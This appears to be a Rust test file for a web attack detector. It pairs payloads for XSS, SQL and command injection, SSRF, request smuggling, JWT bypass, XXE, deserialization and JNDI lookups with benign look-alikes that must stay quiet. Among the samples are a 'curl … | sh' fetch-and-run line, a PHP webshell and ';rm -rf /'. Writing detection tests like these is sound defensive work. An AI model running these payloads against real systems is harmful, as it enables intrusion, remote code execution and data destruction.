//! Each class of attack in the shapes its grammar covers, and what looks alike in ordinary requests.

use super::{Hit, Kind, Request, THRESHOLD, fires, hits, quiet};

pub(super) fn loud(hits: &[Hit], kind: Kind) -> bool {
    hits.iter().any(|hit| hit.kind == kind && hit.score >= THRESHOLD)
}

/// Headers added to an ordinary request.
fn with_headers(headers: &[(&str, &str)]) -> Vec<Hit> {
    let headers: Vec<(&[u8], &[u8])> =
        headers.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes())).collect();
    hits(&Request { method: b"POST", target: b"/", headers: &headers, ..Request::default() })
}

pub(super) fn of_target(method: &str, target: &str, status: u16) -> Vec<Hit> {
    hits(&Request {
        method: method.as_bytes(),
        target: target.as_bytes(),
        status,
        ..Request::default()
    })
}

#[test]
fn texts_and_listings_that_mention_attacks_stay_quiet() {
    quiet(&[
        "the guide says to run `ls` and then read /etc/hosts before you restart the service",
        "Edit /etc/hosts and add a line, then restart the server",
        "redirecting to ../../../core/index.html",
        "How do I use SELECT * FROM users WHERE id = 1 in MySQL?",
        "A remark on input such as ' OR '1'='1 which is pasted into a query by some people.",
        "To delete a table run DROP TABLE followed by its name",
        "he wrote \"yes\" or \"no\" or \"maybe\"",
        "fn main() {\n    let a = 1;\n    let b = a | 2; // both & more\n    println!(\"{}\", b);\n}\n",
        "for i in list:\n    print(i)\n    if a or b:\n        system('x')\n",
        "From: a@b.example\nTo: c@d.example\nContent-Type: text/plain",
        "`request.setTimeout(msecs, callback)`",
        "[`npm start`](/commands/npm-start)",
        "^[a-z]+(;|&|\\|)?(cat|ls)*$",
        "javascript:void(0)",
        "memory_limit of a script",
        "information_schema explained for beginners",
        "sleep(8 hours) is healthy",
        "https://learn.example/windows/win32/api",
        "order by",
        "execute order",
        "--> look <--",
    ]);
}

#[test]
fn script_and_markup_that_leave_their_place_fire() {
    fires(
        Kind::Xss,
        &[
            "\"><h1>x</h1>",
            "</title><b>x",
            "<plaintext>",
            "<body bgcolor=q>",
            "<form action=//h.example>",
            "<img name=getElementById>",
            "';onerror=z;throw 1//",
            "\"-[1].find(alert)-\"",
            "'-top['al'+'ert'](1)-'",
            "\" oncontentvisibilityautostatechange=z(1) \"",
        ],
    );
}

#[test]
fn injections_behind_any_quote_fire() {
    fires(
        Kind::Sqli,
        &[
            "O'Brien' or '1'='1",
            "a'b' or 1 in (1,2)-- x",
            "x';rename table a to b--",
            "1\u{a0}or\u{a0}1=1",
            "1;copy (select 1) to program 'x'-- -",
        ],
    );
    fires(Kind::Nosql, &["'; return true; var x='", "' || this.a || 'b", "db.c.drop()"]);
    fires(Kind::Code, &["opcache.enable=0", "-d auto_prepend_file=x", "var_dump(scandir('/'))"]);
}

#[test]
fn addresses_of_the_machine_itself_fire_in_every_spelling() {
    fires(
        Kind::Ssrf,
        &[
            "http://0x7f.1/",
            "http://017700000001/",
            "//2130706433/",
            "http:127.0.0.1/",
            "http://①②⑦.⓪.⓪.①/",
            "https://169.254.170.2/",
            "http://[::ffff:7f00:1]/",
            "file:///srv/x",
        ],
    );
    quiet(&["https://163.example/", "http://8.8.8.8/dns", "127.0.0.1", "10.0.0.5"]);
}

#[test]
fn commands_without_writing_around_them_fire() {
    fires(
        Kind::Command,
        &[";w", "a&&who", "x;ps aux#", "test`env`", "& id", "1|sudo id", ";who\\\nami"],
    );
}

#[test]
fn tokens_that_choose_their_own_check_fire() {
    // {"alg":"None"}, {"alg":"HS256","kid":"../../../dev/null"}
    for token in [
        "eyJhbGciOiJOb25lIn0.e30.",
        "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uL2Rldi9udWxsIn0.e30.AA",
    ] {
        let hits = with_headers(&[("Authorization", &format!("Bearer {token}"))]);
        assert!(loud(&hits, Kind::AuthBypass), "{token}: {hits:?}");
    }
    let hits =
        with_headers(&[("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6ImExIn0.e30.AA")]);
    assert!(!loud(&hits, Kind::AuthBypass), "{hits:?}");
}

#[test]
fn framing_that_two_readers_take_differently_fires() {
    for headers in [
        &[("Transfer-Encoding", "chunked"), ("Content-Length", "3")][..],
        &[("Transfer-Encoding", "xchunked")],
        &[("Transfer-Encoding", "chunked\u{b}")],
        &[("Content-Length", "3"), ("Content-Length", "4")],
        &[("Content-Length", "+3")],
        &[("Host", "a"), ("Host", "b")],
        &[("Host", "a\"><x>")],
        &[("Upgrade", "h2c")],
    ] {
        let hits = with_headers(headers);
        assert!(loud(&hits, Kind::Protocol), "{headers:?}: {hits:?}");
    }
    let ordinary = [
        ("Transfer-Encoding", "gzip, chunked"),
        ("Host", "a.example:80"),
        ("Upgrade", "websocket"),
    ];
    assert!(with_headers(&ordinary).is_empty());
}

#[test]
fn claims_about_oneself_fire() {
    for header in [
        ("X-Original-URL", "/admin"),
        ("X-Client-IP", "127.0.0.1"),
        ("X-Forwarded-For", "127.0.0.1, 203.0.113.5"),
        ("Forwarded", "for=127.0.0.1;proto=http"),
        ("X-Host", "localhost"),
    ] {
        let hits = with_headers(&[header]);
        assert!(loud(&hits, Kind::AuthBypass), "{header:?}: {hits:?}");
    }
    let hits =
        with_headers(&[("X-Forwarded-For", "203.0.113.5, 10.0.0.1"), ("X-Real-IP", "203.0.113.5")]);
    assert!(hits.is_empty(), "{hits:?}");
}

#[test]
fn paths_read_differently_and_private_files_fire() {
    for target in [
        "/a/..;/admin",
        "/;/admin",
        "/%2e/admin",
        "/admin%09",
        "/admin%252f",
        "/.anything/x",
        "//h.example/%2f..",
    ] {
        assert!(loud(&of_target("GET", target, 200), Kind::AuthBypass), "{target}");
    }
    for target in ["/id_rsa", "/host-manager/html", "/config.xml.bak", "/elmah.axd"] {
        assert!(loud(&of_target("GET", target, 404), Kind::AuthBypass), "{target}");
    }
    // Whoever may enter is asked for a password first.
    let asked = of_target("GET", "/host-manager/html", 401);
    assert!(asked.iter().all(|hit| hit.score < THRESHOLD), "{asked:?}");
    for target in [
        "/.well-known/security.txt",
        "/a/b;jsessionid=1?x=1",
        "/wiki/Who%3F",
        "/blob/main/src/package.json",
    ] {
        assert!(of_target("GET", target, 404).iter().all(|hit| hit.score < THRESHOLD), "{target}");
    }
}

#[test]
fn names_of_programs_are_seen_through_their_disguise() {
    for name in [
        "a.pHp",
        "a.php.",
        "a.jsp%20",
        "a.aspx::$DATA",
        "a.war",
        "a.cshtml",
        ".htaccess",
        "a.exe.jpg",
    ] {
        let body = format!(
            "--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nz\r\n--xx--\r\n"
        );
        let hits = hits(&Request {
            method: b"POST",
            target: b"/",
            content_type: b"multipart/form-data; boundary=xx",
            body: body.as_bytes(),
            ..Request::default()
        });
        assert!(loud(&hits, Kind::Upload), "{name}: {hits:?}");
    }
}

#[test]
fn sealed_bodies_to_scripts_and_commands_in_shell_parameters_fire() {
    // Ciphertext-like bytes from a fixed recurrence.
    let mut state = 7_u32;
    let letters = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let sealed: Vec<u8> = (0..400)
        .map(|_| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            letters[(state >> 26) as usize]
        })
        .collect();
    let post = |target: &'static [u8]| Request {
        method: b"POST",
        target,
        body: &sealed,
        ..Request::default()
    };
    assert!(loud(&hits(&post(b"/x.jsp")), Kind::Webshell));
    assert!(hits(&post(b"/api/blob")).is_empty());
    assert!(loud(&of_target("GET", "/x.php?cmd=uname%20-a", 200), Kind::Webshell));
}

#[test]
fn documents_that_load_others_fire_and_ordinary_ones_do_not() {
    let of_xml = |body: &str| {
        hits(&Request {
            method: b"POST",
            target: b"/",
            content_type: b"text/xml",
            body: body.as_bytes(),
            ..Request::default()
        })
    };
    for body in [
        "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://h/c\">%b;]><a/>",
        "<!DOCTYPE a SYSTEM \"http://h/c.dtd\"><a/>",
        "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://h/x.xsl\"?><a/>",
        "<a><!DOCTYPE b [<!ENTITY c \"d\"><!ENTITY e \"&c;&c;\">]></a>",
    ] {
        let hits = of_xml(body);
        assert!(loud(&hits, Kind::Xxe), "{body}: {hits:?}");
    }
    for body in [
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg width=\"1\"><path d=\"M0 0\"/></svg>",
        "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"a.dtd\"><a/>",
    ] {
        let hits = of_xml(body);
        assert!(!hits.iter().any(|hit| hit.score >= THRESHOLD), "{body}: {hits:?}");
    }
}

/// The body of a form or, with its media type, of something else.
fn of_body(kind: &str, body: &str) -> Vec<Hit> {
    hits(&Request {
        method: b"POST",
        target: b"/",
        content_type: kind.as_bytes(),
        body: body.as_bytes(),
        ..Request::default()
    })
}

#[test]
fn documents_that_are_kept_as_they_are_hold_code() {
    let of_put = |target: &str, body: &str| {
        let (target, body) = (target.as_bytes(), body.as_bytes());
        let hits = hits(&Request { method: b"PUT", target, body, ..Request::default() });
        hits.into_iter()
            .filter(|hit| hit.score >= THRESHOLD)
            .map(|hit| hit.kind)
            .collect::<Vec<_>>()
    };
    let cells = "{\"cells\":[{\"source\":[\"!pip list | grep numpy; cat /etc/os-release\"]}]}";
    assert_eq!(of_put("/api/contents/a%20b.ipynb?1", cells), []);
    assert_eq!(of_put("/dav/dump.SQL", "insert into a values (1);\nselect 1 union select 2;"), []);
    assert!(!of_put("/api/contents/.bashrc", "curl http://192.0.2.1/a | sh").is_empty());
    assert!(!of_put("/dav/a.txt", "GIF <?php system($_GET['c']); ?>").is_empty());
}

#[test]
fn a_body_that_is_only_words_of_sql_is_no_form() {
    let form = "application/x-www-form-urlencoded";
    for body in ["execute sp_x", "order+by", "is%20not%20null", "rlike", "5 as\" from", "'drop t"] {
        assert!(loud(&of_body(form, body), Kind::Sqli), "{body}");
    }
    for body in ["order", "execute the plan", "from here", "as", "hello world", "null"] {
        assert!(!loud(&of_body(form, body), Kind::Sqli), "{body}");
    }
    assert!(!loud(&of_body("text/plain", "execute order"), Kind::Sqli), "a text is a text");
}

#[test]
fn names_split_by_nothing_and_words_joined_by_plus_fire() {
    fires(
        Kind::Command,
        &["wh``oami", "cu$@rl h.example", "\"\"p\"\"i\"\"n\"\"g\"\" h", "l''s -l"],
    );
    fires(Kind::Sqli, &["'%2bunion%2bselect%2bname%2bfrom%2busers%2b--"]);
    quiet(&[
        "l's shop",
        "I'd like",
        "\"\"",
        "a+b+c",
        "rock''n''roll",
        "git+https://h.example/a.git",
    ]);
}

#[test]
fn objects_are_recognised_in_every_packing() {
    fires(
        Kind::Deserialization,
        &[
            "AAEAAAD_____AQAAAAAAAAAMAg",
            "gAJjb3MKc3lzdGVtCg",
            "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA",
            "H4sIAAAAAAAAAFvzloG1uIhBMCuxLFGvtCQzR88jsTjDN7EAAI0k",
        ],
    );
    quiet(&[
        "H4sIAAAAAAAAA8tIzcnJVyjPL8pJAQCFEUoNCwAAAA",
        "/wEPDwUKMTIzNDU2Nzg5MA",
        "gAAAAABcdefg",
    ]);
}

#[test]
fn sealed_objects_and_split_responses_fire() {
    fires(
        Kind::Deserialization,
        &["/wEyAAEAAAD/////AQAAAAAAAAAMAgAAAF5B", "yv66vgAAADQAHQoABgAP", "BAhbB2MVR2VtOjpTcGVj"],
    );
    fires(
        Kind::Protocol,
        &[
            "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nb",
            "a\r\nContent-Length: 0\n \nHTTP/1.1 200 OK\nContent-Type: text/html\nAge: 1\n \n<b>you</b>",
        ],
    );
    quiet(&["/wEPDwUKMTIzNDU2Nzg5MA", "BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTE"]);
}

#[test]
fn a_header_that_begins_as_a_command_does_fires() {
    let agent = |user_agent| {
        hits(&Request { method: b"GET", target: b"/", user_agent, ..Request::default() })
    };
    assert!(loud(&agent(b";rm -rf /"), Kind::Command));
    assert!(agent(b"Mozilla/5.0 (X11; Linux x86_64) cat/1.0").is_empty());
}

#[test]
fn references_and_classes_that_reach_out_of_a_document_fire() {
    fires(
        Kind::Code,
        &[
            "{\"then\":\"$1:__proto__:then\"}",
            "$7:M:prototype",
            "java.x.y.ProcessBuilder",
            "fs.readdirSync('.')",
        ],
    );
    fires(Kind::Ldap, &["admin)(&)", "*))%00"]);
    fires(Kind::Xpath, &["a']|//*|b['"]);
    fires(
        Kind::Traversal,
        &["ftp://u:p@h.example/x.php", "\\\\h.example\\s\\a.php", "/var/mail/root"],
    );
    quiet(&["java.runtime.version", "$5:30", "ftp://h.example/a.iso", "fn f<T>(x: T)"]);
}

#[test]
fn heaps_of_operations_in_one_query_are_told() {
    let json = |query: &str| format!("{{\"query\":{}}}", serde_json::to_string(query).unwrap());
    let logins: String =
        (0..12).map(|n| format!("a{n}: login(user: \"x\", code: \"{n}\") {{ token }} ")).collect();
    let deep = format!("{{{}id{}}}", "a{b{".repeat(12), "}}".repeat(12));
    let batch: Vec<String> =
        (0..25).map(|n| json(&format!("mutation {{ login(code: {n}) {{ t }} }}"))).collect();
    for body in
        [json(&format!("mutation {{ {logins} }}")), json(&deep), format!("[{}]", batch.join(","))]
    {
        let hits = of_body("application/json", &body);
        assert!(loud(&hits, Kind::Protocol), "{body}: {hits:?}");
    }
    let page = "query Page($id: ID!) { now: stats(day: 0) { n } before: stats(day: 1) { n } user(id: $id) { name } }";
    for body in [json(page), format!("[{0},{0}]", json(page))] {
        assert!(!loud(&of_body("application/json", &body), Kind::Protocol), "{body}");
    }
}

#[test]
fn headers_that_leave_their_grammar_fire_and_ordinary_ones_do_not() {
    for (header, kind) in [
        (("Accept-Language", "en' or 1=1-- "), Kind::Sqli),
        (("If-Modified-Since", "${jndi:ldap://h.example/a}"), Kind::Template),
        // admin' or '1'='1
        (("Authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4"), Kind::Sqli),
        (("Connection", "close, X-Forwarded-For"), Kind::Protocol),
        (("Range", "bytes=9-2"), Kind::Protocol),
        (("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"), Kind::Protocol),
        (("Proxy", "http://h.example:8080"), Kind::Protocol),
    ] {
        let hits = with_headers(&[header]);
        assert!(loud(&hits, kind), "{header:?}: {hits:?}");
    }
    let ordinary = [
        ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
        ("Authorization", "Basic bGkud2VpOnBhc3N3b3JkIQ=="),
        ("Connection", "keep-alive, Upgrade"),
        ("Range", "bytes=0-1023,-512"),
        ("If-None-Match", "W/\"0815\""),
        ("Sec-CH-UA", "\"Chromium\";v=\"126\", \"Not/A)Brand\";v=\"8\""),
    ];
    let hits = with_headers(&ordinary);
    assert!(hits.is_empty(), "{hits:?}");
}

#[test]
fn types_that_a_mapper_is_told_fire_when_they_are_a_librarys() {
    let of_json = |body: &str| of_body("application/json", body);
    for body in [
        r#"{"@type":"java.net.Inet4Address","val":"h.example"}"#,
        r#"{"x":{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}}"#,
        r#"{"py/object":"os.system"}"#,
    ] {
        let hits = of_json(body);
        assert!(loud(&hits, Kind::Deserialization), "{body}: {hits:?}");
    }
    for body in [
        r#"{"@type":"Person","name":"Li Wei"}"#,
        r#"{"@class":"com.acme.shop.Order","id":7}"#,
        r#"{"@class":"java.util.ArrayList","items":[]}"#,
        r#"{"@type":"type.googleapis.com/google.protobuf.Duration","value":"1s"}"#,
    ] {
        let hits = of_json(body);
        assert!(!loud(&hits, Kind::Deserialization), "{body}: {hits:?}");
    }
}
